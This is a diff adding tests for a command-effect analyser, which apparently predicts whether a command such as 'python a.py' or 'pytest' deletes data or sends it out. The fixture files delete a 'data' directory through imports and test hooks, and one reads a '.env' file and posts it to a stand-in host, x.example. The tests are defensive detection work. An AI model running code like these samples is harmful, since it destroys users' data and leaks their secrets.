@@ -179,3 +179,102 @@ test.each<readonly [name: string, commandLine: string, files: Readonly<Record<st
   const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
   expect(effectLines(commandLine, { files: world })).toContain('delete data')
 })
+
+const fixture = 'import pytest, shutil\n@pytest.fixture(autouse=True)\ndef clean():\n    shutil.rmtree("data")\n'
+const wipes = 'import shutil\ndef wipe(path):\n    shutil.rmtree(path)\n'
+
+test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
+  ['a member', 'python a.py', { 'a.py': 'from b import wipe\nwipe("data")\n', 'b.py': wipes }],
+  ['one of a module', 'python a.py', { 'a.py': 'import lib.b\nlib.b.wipe("data")\n', 'lib/b.py': wipes }],
+  [
+    'one that another hands on',
+    'python a.py',
+    { 'a.py': 'from c import wipe\nwipe("data")\n', 'c.py': 'from b import wipe\n', 'b.py': wipes },
+  ],
+  [
+    'one that calls another',
+    'python a.py',
+    { 'a.py': 'from c import go\ngo("da")\n', 'c.py': 'from b import wipe\ndef go(x):\n    wipe(x + "ta")\n', 'b.py': wipes },
+  ],
+  [
+    'one that gives the path',
+    'python a.py',
+    { 'a.py': 'import shutil\nfrom b import at\nshutil.rmtree(at("data"))\n', 'b.py': "# remove('x')\ndef at(x):\n    return x\n" },
+  ],
+  [
+    'an export',
+    'node a.mjs',
+    { 'a.mjs': "import { wipe } from './b.mjs'\nwipe('data')", 'b.mjs': "import fs from 'fs'\nexport const wipe = (p) => fs.rmSync(p)" },
+  ],
+  [
+    'the default',
+    'node a.mjs',
+    { 'a.mjs': "import wipe from './b.mjs'\nwipe('data')", 'b.mjs': "import fs from 'fs'\nexport default (p) => fs.rmSync(p)" },
+  ],
+  [
+    'all exports',
+    'node a.cjs',
+    { 'a.cjs': "const b = require('./b.cjs')\nb.wipe('data')", 'b.cjs': "const fs = require('fs')\nexports.wipe = (p) => fs.rmSync(p)" },
+  ],
+  ['one that a test calls', 'pytest', { 'tests/test_a.py': 'from .b import wipe\ndef test_a():\n    wipe("data")\n', 'tests/b.py': wipes }],
+  ['a fixture that a test loads', 'pytest', { 'tests/test_a.py': 'from .b import clean\n', 'tests/b.py': fixture }],
+  ['a plugin of the set-up', 'pytest', { 'conftest.py': 'pytest_plugins = [\n  "lib.b",\n]\n', 'lib/b.py': fixture }],
+  [
+    'an entry',
+    'node a.cjs',
+    {
+      'a.cjs': "const { b } = require('./b.cjs')\nb.wipe('data')",
+      'b.cjs': "const fs = require('fs')\nmodule.exports = { b: { wipe: (p) => fs.rmSync(p) } }",
+    },
+  ],
+  [
+    'a class',
+    'node a.cjs',
+    {
+      'a.cjs': "const B = require('./b.cjs')\nnew B('data').run()",
+      'b.cjs': "const fs = require('fs')\nclass B { constructor(d) { this.d = d } run() { fs.rmSync(this.d) } }\nmodule.exports = B",
+    },
+  ],
+  ['a module that a test loads', 'pytest', { 'tests/test_a.py': 'import b\n', 'tests/b.py': `${wipes}wipe("data")\n` }],
+  [
+    'what a test in JavaScript loads',
+    'vitest run',
+    { 'tests/a.test.ts': "import './b'", 'tests/b.ts': "import fs from 'fs'\nfs.rmSync('data', { recursive: true })" },
+  ],
+])('what a function of another file is given is deleted: %s', (_name, commandLine, files) => {
+  const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
+  expect(effectLines(commandLine, { files: world })).toContain('delete data')
+})
+
+test('what a function of another file is given may be a secret that it sends off', () => {
+  const files = {
+    '/w/a.py': 'from b import send\nsend(open(".env").read())\n',
+    '/w/b.py': 'import requests\ndef send(x):\n    requests.post("https://x.example", data=x)\n',
+  }
+  expect(effectLines('python a.py', { files })).toContain('send:data https://x.example')
+})
+
+test.each([
+  [
+    'a function that no test calls',
+    { '/w/tests/test_a.py': 'import b\n', '/w/tests/b.py': 'import shutil\ndef wipe():\n    shutil.rmtree("data")\n' },
+  ],
+  [
+    'what a module does as a program',
+    { '/w/tests/test_a.py': 'import b\n', '/w/tests/b.py': `${wipes}if __name__ == "__main__":\n    wipe("data")\n` },
+  ],
+  [
+    'a function that is given what only running shows',
+    { '/w/tests/test_a.py': 'from b import wipe\ndef test_a(tmp_path):\n    wipe(tmp_path)\n', '/w/tests/b.py': wipes },
+  ],
+])('%s adds nothing to the tests', (_name, files) => {
+  expect(effectLines('pytest', { files })).toEqual(['execute:project tests'])
+})
+
+test('no analysis changes what the next one finds in another file', () => {
+  const b = 'import shutil\nplaces = "data"\ndef set_place(x):\n    global places\n    places = x\ndef wipe():\n    shutil.rmtree(places)\n'
+  const lines = (a: string): readonly string[] => effectLines('python a.py', { files: { '/w/a.py': a, '/w/b.py': b } })
+  const before = lines('from b import wipe\nwipe()\n')
+  lines('from b import wipe, set_place\nset_place("src")\nwipe()\n')
+  expect(lines('from b import wipe\nwipe() # again\n')).toEqual(before)
+})
